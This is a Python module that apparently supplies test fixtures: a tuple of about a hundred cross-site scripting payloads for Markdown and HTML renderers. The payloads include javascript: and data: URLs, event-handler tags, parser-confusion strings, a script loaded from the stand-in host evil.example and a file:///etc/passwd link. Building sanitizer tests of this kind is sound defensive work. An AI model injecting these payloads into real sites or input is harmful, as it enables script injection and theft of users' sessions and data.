"""A hundred ways to bring a script into a page, as Markdown and HTML alike."""

from __future__ import annotations

_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java&#x0A;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61&#x76&#x61script:alert(1)",
    "javascript&colon;alert(1)", "\x01javascript:alert(1)", "javascript://x/%0Aalert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "DATA:text/html,x", "livescript:x", "mocha:x", "blob:https://x/y",
    "filesystem:https://x/y", "file:///etc/passwd", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
    "jar:javascript:alert(1)", "about:blank#javascript:alert(1)",
)  # fmt: skip
_TAGS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>", "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'>", "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=`x` onerror=alert(1)>", "<img src=x:x onerror=alert(1)//",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><animate onbegin=alert(1)></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<math href='javascript:alert(1)'>x</math>", "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>", "<applet code=x></applet>", "<body onload=alert(1)>",
    "<div onclick=alert(1)>x</div>", "<p onmouseover='alert(1)'>x</p>", "<h2 onclick=alert(1)>x</h2>",
    "<table onclick=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>", "<a onclick=alert(1) href=#>x</a>",
    "<a href='x' onfocus=alert(1) autofocus>x</a>", "<input onfocus=alert(1) autofocus>",
    "<button onclick=alert(1)>x</button>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>", "<details ontoggle=alert(1) open>x</details>",
    "<video onerror=alert(1)><source></video>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href='javascript:/'>",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    "<style>@import 'javascript:alert(1)'</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>", "<xss style='behavior:url(x.htc)'>x</xss>",
    "<template><script>alert(1)</script></template>", "<noscript><img src=x onerror=alert(1)></noscript>",
    "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<textarea></textarea><script>alert(1)</script>", "<title></title><script>alert(1)</script>",
    "<isindex action=javascript:alert(1)>", "<frameset onload=alert(1)>", "<bgsound src='javascript:alert(1)'>",
    "<picture><source srcset='javascript:alert(1)'><img src='javascript:alert(1)'></picture>",
    "<figure><img src='javascript:alert(1)' alt=x></figure>", "<mark style='color:javascript:alert(1)'>x</mark>",
)  # fmt: skip
_MARKDOWN = (
    "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>", "![x](x \"a\\\" onerror=alert(1)\")",
    "[x](https://e.example \"' onclick='alert(1)\")", "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```", "[![x](javascript:alert(1))](javascript:alert(1))",
    "{% embed url=\"javascript:alert(1)\" %}", "{% content-ref url=\"javascript:alert(1)\" %}\nx\n{% endcontent-ref %}",
    "{% file src=\"data:text/html,x\" %}", "{% swagger src=\"javascript:alert(1)\" path=\"/\" method=\"get\" %}",
    "<a href=\"javascript:alert(1)\" class=\"button primary\">x</a>",
    "| a |\n| --- |\n| [x](javascript:alert(1)) |", "[^1]\n\n[^1]: [x](javascript:alert(1))",
    "{% @x/y url=\"javascript:alert(1)\" data-url=\"javascript:alert(1)\" %}",
)  # fmt: skip

ATTACKS: tuple[str, ...] = (
    *(f"[x]({address})" for address in _ADDRESSES[:12]),
    *(f'<a href="{address}">x</a>' for address in _ADDRESSES),
    *(f'<img src="{address}">' for address in _ADDRESSES[10:]),
    *_TAGS,
    *_MARKDOWN,
)
